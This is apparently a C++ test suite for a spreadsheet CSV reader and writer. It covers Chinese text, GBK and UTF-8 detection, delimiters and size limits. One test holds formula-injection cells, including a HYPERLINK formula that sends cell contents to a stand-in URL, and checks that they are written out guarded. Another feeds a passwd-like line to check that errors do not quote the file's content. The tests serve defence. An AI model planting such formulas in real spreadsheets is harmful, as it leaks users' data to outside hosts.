// Spreadsheet files: what the host writes reads back cell for cell, and bad
// files are refused with their place.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>

#include "host/fields/input_limits.h"
#include "host/framework/atomic_file.h"
#include "host/spreadsheet/csv_table.h"
#include "support/error_text.h"
#include "support/temp_folder.h"
#include "support/utf8_literal.h"

using ds_spreadsheet::from_csv;
using ds_spreadsheet::spreadsheet_error;
using ds_spreadsheet::to_csv;
using ds_test::utf8;

TEST(CsvTable, RoundTripKeepsEveryCell)
{
    const ds_spreadsheet::table rows = {
        {"属性", "数据", "填写说明"},
        {"输入方式", "自定义", "方式：外部引用; 外部导入; 自定义"},
        {"高度(mm)", " 200 250 "},
        {"自定义附注", "含,逗号 \"引号\"\n和换行"},
        {"斜交角(°)", ""},
        {"单"},
    };
    EXPECT_EQ(from_csv(to_csv(rows), "round trip"), rows);
}

TEST(CsvTable, ReadsWhatSpreadsheetsWrite)
{
    EXPECT_EQ(from_csv("\xEF\xBB\xBF" "a,b\r\n\"x,y\",\"q\"\"q\"\nlast", "t"),
              (ds_spreadsheet::table{{"a", "b"}, {"x,y", "q\"q"}, {"last"}}));
}

TEST(CsvTable, BadFilesAreRefusedWithTheirPlace)
{
    const auto refusal = [](const std::string& text) {
        return ds_test::error_text<spreadsheet_error>([&] { from_csv(text, "edited.csv"); });
    };
    EXPECT_THAT(refusal("a,b\nc,\"open"), testing::HasSubstr("edited.csv"));
    EXPECT_THAT(refusal("a,b\nc,x\xC2\xB2"), testing::HasSubstr("row 2, column 2"));  // "²" in UTF-8, which GBK lacks
}

class CsvFileCharsets : public ds_test::temp_folder_test {};

TEST_F(CsvFileCharsets, WrittenWithAMarkAndReadInTheCharsetItCameIn)
{
    using ds_spreadsheet::csv_encoding;
    using ds_text::file_charset;
    const auto file = m_dir / "t.csv";
    ds_spreadsheet::write_csv_file(file, {{"桥幅", "主线"}});
    EXPECT_EQ(ds_file::read_whole_file(file), "\xEF\xBB\xBF" + utf8(u8"\"桥幅\",\"主线\"\r\n"));

    const std::string gbk_bytes = "\xC7\xC5\xB7\xF9,x\r\n";  // "桥幅,x" as a spreadsheet program saves it in GBK
    struct read_case {
        std::string bytes;
        csv_encoding asked;
        file_charset taken;
    };
    const read_case cases[] = {
        {"\xEF\xBB\xBF" + utf8(u8"桥幅,x\r\n"), csv_encoding::detect, file_charset::utf8},
        {utf8(u8"桥幅,x\r\n"), csv_encoding::detect, file_charset::utf8},
        {gbk_bytes, csv_encoding::detect, file_charset::gbk},
        {gbk_bytes, csv_encoding::gbk, file_charset::gbk},
    };
    for (const read_case& c : cases) {
        std::ofstream(file, std::ios::binary) << c.bytes;
        const ds_spreadsheet::csv_file read = ds_spreadsheet::read_csv_file(file, c.asked);
        EXPECT_EQ(read.charset, c.taken) << c.bytes;
        EXPECT_EQ(read.rows, (ds_spreadsheet::table{{"桥幅", "x"}})) << c.bytes;
    }
    std::ofstream(file, std::ios::binary) << gbk_bytes;
    EXPECT_THAT(ds_test::error_text<spreadsheet_error>([&] { ds_spreadsheet::read_csv_file(file, csv_encoding::utf8); }),
                testing::HasSubstr("invalid UTF-8: byte \\xC7"));
    std::ofstream(file, std::ios::binary) << "a,\xFF\xFF\r\n";
    EXPECT_THAT(ds_test::error_text<spreadsheet_error>([&] { ds_spreadsheet::read_csv_file(file); }),
                testing::HasSubstr("t.csv: invalid GBK text: byte \\xFF at byte offset 2 (nor is it UTF-8)"));
}

// A cell a spreadsheet program would run as a formula leaves as text and comes
// back as it was; numbers and apostrophes a person typed are left alone.
TEST(CsvTable, FormulaLikeCellsLeaveGuardedAndComeBackUnchanged)
{
    const ds_spreadsheet::table rows = {
        {"=HYPERLINK(\"http://x?\"&A1,\"click\")", "+1+1", "@SUM(A1)", "\tx", "\rx", "-", "-x"},
        {"-5", "+5", "-1e3", "'=x", "''=x", "'abc", "'-5", "a=b"},
    };
    const std::string text = to_csv(rows);
    for (const char* guarded : {"\"'=HYPERLINK", "\"'+1+1\"", "\"'@SUM", "\"'\tx\"", "\"'-\"", "\"'-x\"", "\"''=x\"",
                                "\"'''=x\"", "\"''-5\""})
        EXPECT_THAT(text, testing::HasSubstr(guarded));
    EXPECT_THAT(text, testing::HasSubstr("\r\n\"-5\",\"+5\",\"-1e3\","));
    EXPECT_THAT(text, testing::HasSubstr(",\"'abc\","));
    EXPECT_EQ(from_csv(text, "round trip"), rows);
}

// Files from other locales and hostile files: read with their delimiter, or
// refused while reading with the place, without quoting what the file holds.
TEST(CsvTable, DelimitersAndLimitsAreFoundWhileReading)
{
    using ds_spreadsheet::read_csv_text;
    struct delimiter_case {
        std::string text;
        char delimiter;
        ds_spreadsheet::table rows;
    };
    const delimiter_case read[] = {
        {"a;b\r\nc;\"d;e\"\r\n", ';', {{"a", "b"}, {"c", "d;e"}}},
        {"a\tb\r\n", '\t', {{"a", "b"}}},
        {"a;b,c\r\n", ',', {{"a;b", "c"}}},
        {"\"x;y\"\r\n", ',', {{"x;y"}}},
    };
    for (const delimiter_case& c : read) {
        const ds_spreadsheet::csv_text got = read_csv_text(c.text, "t.csv");
        EXPECT_EQ(got.delimiter, c.delimiter) << c.text;
        EXPECT_EQ(got.rows, c.rows) << c.text;
    }
    const auto refusal = [](const std::string& text) {
        return ds_test::error_text<spreadsheet_error>([&] { from_csv(text, "big.csv"); });
    };
    const std::string long_cell(input_limits::max_cell_characters + 1, 'x');
    EXPECT_THAT(refusal("a,b\r\n" + long_cell), testing::HasSubstr("big.csv: row 2, column 1: more than 32767 characters"));
    EXPECT_THAT(refusal("\"" + std::string(1 << 20, 'x')), testing::HasSubstr("big.csv: row 1, column 1: more than 32767"));
    EXPECT_THAT(refusal(std::string(input_limits::max_spreadsheet_cells, ',')), testing::HasSubstr("big.csv: more cells than a table needs"));
    EXPECT_THAT(refusal("root:x:0:0\nsecret\"quote\n"), testing::AllOf(testing::HasSubstr("row 2, column 1: a quote inside a cell"),
                                                                      testing::Not(testing::HasSubstr("secret"))));
}

TEST_F(CsvFileCharsets, GbkAskedOfAUtf8FileIsRefusedSayingSo)
{
    const auto file = m_dir / "u.csv";
    std::ofstream(file, std::ios::binary) << utf8(u8"桥幅,主线\r\n");
    EXPECT_THAT(ds_test::error_text<spreadsheet_error>(
                    [&] { ds_spreadsheet::read_csv_file(file, ds_spreadsheet::csv_encoding::gbk); }),
                testing::HasSubstr("u.csv: the file is UTF-8 text, not GBK; import it without --encoding gbk"));
}
